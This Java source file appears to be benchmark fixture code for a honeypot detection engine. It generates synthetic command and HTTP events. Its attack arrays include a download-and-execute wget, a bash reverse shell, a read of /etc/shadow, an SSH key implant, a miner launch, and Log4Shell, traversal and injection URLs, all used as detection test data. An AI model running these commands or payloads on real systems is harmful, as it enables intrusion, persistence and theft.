package org.ttp4j.bench;

import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.ttp4j.engine.Event;

/** Realistic honeypot events: mostly benign shell commands and URLs, some attack lines. */
final class BenchEvents {
    private BenchEvents() {}

    /** A typical command that no benchmark pack matches. */
    static final String QUIET_COMMAND = "cd /var/www/html && git status --short";

    static final String[] BENIGN_COMMANDS = {
        "ps aux --sort=-%mem | head -n 20", "cd /var/www/html", "ls -la", "df -h", "free -m", "uptime",
        "cat /etc/os-release", "echo $PATH", "w", "last -n 5", "netstat -tulpn", "top -bn1 | head", "pwd",
        "ifconfig eth0", "systemctl status nginx", "tail -n 50 /var/log/syslog", "docker ps", "history | tail",
    };
    static final String[] ATTACK_COMMANDS = {
        "wget http://45.9.148.1/x.sh -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x", "cat /etc/shadow",
        "uname -a", "whoami", "echo c3NoLXJzYQ== | base64 -d >> ~/.ssh/authorized_keys", "crontab -l",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "history -c", "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'",
        "sudo -l", "./xmrig -o stratum+tcp://pool.example:3333",
    };
    static final String[] BENIGN_URLS = {"/", "/index.html", "/favicon.ico", "/robots.txt", "/static/app.js",
        "/api/v1/status", "/login", "/images/logo.png"};
    static final String[] ATTACK_URLS = {"/?x=${jndi:ldap://1.2.3.4/a}", "/../../etc/passwd", "/wp-login.php",
        "/.env", "/index.php?id=1 UNION SELECT 1,2", "/cgi-bin/x?cmd=id;uname"};

    static Event command(String text, int k) {
        Map<String, Object> p = new HashMap<>();
        p.put("command_text", text);
        p.put("uid", 0);
        p.put("user", "root");
        p.put("pwd", "/root");
        return new Event("command", "cmd_" + k, "6f1c3c1e-6d2b-4b8e-9d7e-1c2b3a4d5e6f", null, "sess_" + (k / 16),
                "decky-01", p);
    }

    static Event http(String url, int k) {
        Map<String, Object> p = new HashMap<>();
        p.put("raw_url", url);
        p.put("method", "GET");
        p.put("user_agent", "Mozilla/5.0");
        return new Event("http_request", "req_" + k, "6f1c3c1e-6d2b-4b8e-9d7e-1c2b3a4d5e6f", null, null, "decky-01", p);
    }

    /** {@code n} events, 70% commands and 30% URLs, one in ten an attack line. */
    static List<Event> mixed(int n, long seed) {
        Random r = new Random(seed);
        List<Event> events = new ArrayList<>(n);
        for (int k = 0; k < n; k++) {
            boolean attack = r.nextInt(10) == 0;
            if (r.nextInt(10) < 7) {
                String[] from = attack ? ATTACK_COMMANDS : BENIGN_COMMANDS;
                events.add(command(from[r.nextInt(from.length)], k));
            } else {
                String[] from = attack ? ATTACK_URLS : BENIGN_URLS;
                events.add(http(from[r.nextInt(from.length)], k));
            }
        }
        return events;
    }

    /** {@code n} command events, each an attack line (every one tagged by our pack). */
    static List<Event> attack(int n, long seed) {
        Random r = new Random(seed);
        List<Event> events = new ArrayList<>(n);
        for (int k = 0; k < n; k++) {
            events.add(command(ATTACK_COMMANDS[r.nextInt(ATTACK_COMMANDS.length)], k));
        }
        return events;
    }
}
